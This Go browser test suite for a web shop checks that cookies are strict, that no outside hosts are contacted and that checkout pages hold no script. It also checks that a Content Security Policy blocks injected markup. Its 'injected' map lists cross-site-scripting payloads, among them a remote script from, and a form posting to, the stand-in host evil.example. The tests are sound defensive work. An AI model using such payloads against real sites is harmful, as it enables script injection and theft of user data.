//go:build browser

package journey

import (
	"slices"
	"strings"
	"testing"

	"strongroom/tools/journey/chrome"
	"strongroom/tools/journey/tour"
)

// What is the same for everybody sets no cookie; cart and order set cookies of the strictest kind only (V3.3.1, V3.3.2,
// V3.3.3, V3.3.4). Nothing is ever asked of a foreign host.
func TestCookiesAndHosts(t *testing.T) {
	twoWays(t, func(t *testing.T, g *tour.Guide) {
		tour.Browse(g, func(name string) {
			for _, c := range g.Cookies() {
				t.Errorf("%s sets the cookie %s", name, c.Name)
			}
		})
		g.Buy(tour.Plain, tour.Somebody(), "paid")
		g.State("order.state_paid")
		cookies := g.Cookies()
		if len(cookies) == 0 {
			t.Error("an order without any cookie")
		}
		for _, c := range cookies {
			if !strings.HasPrefix(c.Name, "__Host-") || !c.Secure || !c.HTTPOnly || c.SameSite == "" || c.SameSite == "None" || c.Path != "/" {
				t.Errorf("a weak cookie: %+v", *c)
			}
		}
		if hosts := g.Hosts(); !slices.Equal(hosts, []string{g.Demo.Sandbox, g.Demo.Shop}) {
			t.Errorf("hosts that were asked: %v", hosts)
		}
	})
}

// injected is what an attacker would like to have on a page, with the directive that must say no to it.
var injected = map[string]string{
	`<script>window.ran = 1</script>`:                                                        "script-src-elem",
	`<script src="https://evil.example/x.js"></script>`:                                      "https://evil.example/x.js",
	`<a href="#" onclick="window.ran = 1" id="trap">x</a>`:                                   "script-src-attr",
	`<img src="https://evil.example/x.png" alt="" onerror="window.ran = 1">`:                 "https://evil.example/x.png",
	`<iframe src="https://evil.example/f" title="x"></iframe>`:                               "frame-src",
	`<style>body { display: none }</style>`:                                                  "style-src-elem",
	`<p style="position: fixed">x</p>`:                                                       "style-src-attr",
	`<link rel="stylesheet" href="https://evil.example/x.css">`:                              "https://evil.example/x.css",
	`<object data="https://evil.example/o"></object>`:                                        "object-src",
	`<base href="https://evil.example/">`:                                                    "base-uri",
	`<form id="lure" action="https://evil.example/in" method="post"><input name="a"></form>`: "form-action",
}

// Whatever got into a page does not run, load or send: the policy says no to each (V3.4.3). The pages stand for
// every class of request, with script and without.
func TestInjectedMarkupIsBlocked(t *testing.T) {
	t.Parallel()
	turn(t)
	g := guide(t, "en", chrome.Options{Width: 1280})
	g.Add(tour.Plain)
	markup := ""
	for m := range injected {
		markup += m
	}
	g.Inject(markup)
	for _, path := range []string{"/", "/c/tableware", tour.WithOptions, "/search?q=bowl", "/cart", "/checkout", "/order/link", "/withdraw", "/privacy"} {
		g.Goto(g.To(path))
		if !g.Has("#trap") {
			t.Fatalf("%s: nothing was injected", path)
		}
		g.Eval(`document.querySelector("#trap").click(); document.querySelector("#lure").submit()`, nil)
		said := g.Troubles()
		for range 100 { // the last refusals come a moment after the page
			// The browser reports each refusal twice: to its console and to its list of issues.
			if all := strings.Join(said, " "); strings.Contains(all, "policy: form-action") && strings.Contains(all, "Sending form data") {
				break
			}
			g.Wait("the page", "true")
			said = append(said, g.Troubles()...)
		}
		for m, word := range injected {
			if !strings.Contains(strings.Join(said, " "), word) {
				t.Errorf("%s: %s was not refused", path, m)
			}
		}
		if g.Bool("window.ran") || !strings.HasPrefix(g.URL(), g.Demo.Shop) {
			t.Errorf("%s: injected markup ran, or led away to %s", path, g.URL())
		}
	}
	for _, host := range g.Hosts() {
		if host != g.Demo.Shop && host != g.Demo.Sandbox && !strings.Contains(host, "evil.example") {
			t.Errorf("asked %s", host)
		}
	}
}

// The pages of the checkout and the order hold no script at all.
func TestCheckoutRunsNoScript(t *testing.T) {
	t.Parallel()
	turn(t)
	g := guide(t, "en", chrome.Options{Width: 1280})
	who, seen := tour.Somebody(), 0
	none := func(name string) {
		if strings.HasPrefix(name, "hosted") {
			return
		}
		seen++
		if g.Has("script") {
			t.Errorf("%s has a script", name)
		}
	}
	g.Add(tour.Plain)
	tour.Forms(g, who, none)
	tour.Endings(g, who, none)
	if seen < 8 {
		t.Errorf("only %d pages were seen", seen)
	}
}
